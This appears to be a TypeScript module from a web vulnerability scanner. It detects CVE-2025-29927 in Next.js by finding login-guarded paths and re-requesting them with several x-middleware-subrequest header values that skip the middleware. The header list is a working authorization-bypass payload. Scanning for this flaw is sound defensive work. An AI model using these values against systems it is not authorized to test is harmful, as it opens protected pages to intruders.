import { firstHeader } from '../net/headers.ts';
import { linkedPaths, type HtmlFacts } from './html.ts';
import type { HttpClient } from '../net/http-client.ts';

/**
 * CVE-2025-29927: Next.js before 15.2.3, 14.2.25, 13.5.9 and 12.3.5 skips its middleware for a request
 * carrying `x-middleware-subrequest` with the middleware's name (five times since 13.2, once before).
 * Paths the middleware guards (a redirect to a login page, 401 or 403) are asked again with that
 * header, GET only; a 200 with content means the guard was skipped.
 */
export interface MiddlewareBypassEvidence {
  /** Protected paths that answered 200 with the header. */
  bypassed: Array<{ url: string; header: string; status: number; bytes: number }>;
}

/** The header values of the advisory and the nuclei template: 12.2+ (middleware, src/middleware) and the pages/_middleware of earlier versions. */
export const SUBREQUEST_HEADER_VALUES = [
  'middleware:middleware:middleware:middleware:middleware',
  'src/middleware:src/middleware:src/middleware:src/middleware:src/middleware',
  'middleware',
  'src/middleware',
  'pages/_middleware',
] as const;

/** Paths an app commonly guards with middleware. */
const COMMON_PROTECTED_PATHS = ['/dashboard', '/admin', '/account', '/profile', '/settings', '/app'];
const MAX_LINKED_PATHS = 6;
const MAX_PROTECTED = 3;
const PROBE_BYTES = 64 * 1024;
const LOGIN_LOCATION = /log-?in|sign-?in|auth|inloggen|aanmelden|session/i;

/** Same-origin paths the page links to, then the common ones, each once. */
export function candidatePaths(pageUrl: string, facts: HtmlFacts): string[] {
  return [...new Set(linkedPaths(pageUrl, facts, MAX_LINKED_PATHS).concat(COMMON_PROTECTED_PATHS))];
}

function guards(status: number, location: string | null): boolean {
  if (status === 401 || status === 403) return true;
  return status >= 300 && status < 400 && location !== null && LOGIN_LOCATION.test(location);
}

export async function probeMiddlewareBypass(
  client: HttpClient,
  pageUrl: string,
  facts: HtmlFacts,
): Promise<MiddlewareBypassEvidence> {
  const origin = new URL(pageUrl).origin;
  const protectedPaths: string[] = [];
  for (const path of candidatePaths(pageUrl, facts)) {
    if (protectedPaths.length >= MAX_PROTECTED) break;
    const url = new URL(path, origin).href;
    const answer = await client.fetch(url, { maxBytes: PROBE_BYTES });
    if (answer && guards(answer.status, firstHeader(answer.headers, 'location'))) protectedPaths.push(url);
  }
  const bypassed: MiddlewareBypassEvidence['bypassed'] = [];
  for (const url of protectedPaths) {
    for (const header of SUBREQUEST_HEADER_VALUES) {
      const answer = await client.fetch(url, { maxBytes: PROBE_BYTES, headers: { 'x-middleware-subrequest': header } });
      if (answer?.status === 200 && answer.body.length > 0) {
        bypassed.push({ url, header, status: answer.status, bytes: answer.body.length });
        break;
      }
    }
  }
  return { bypassed };
}
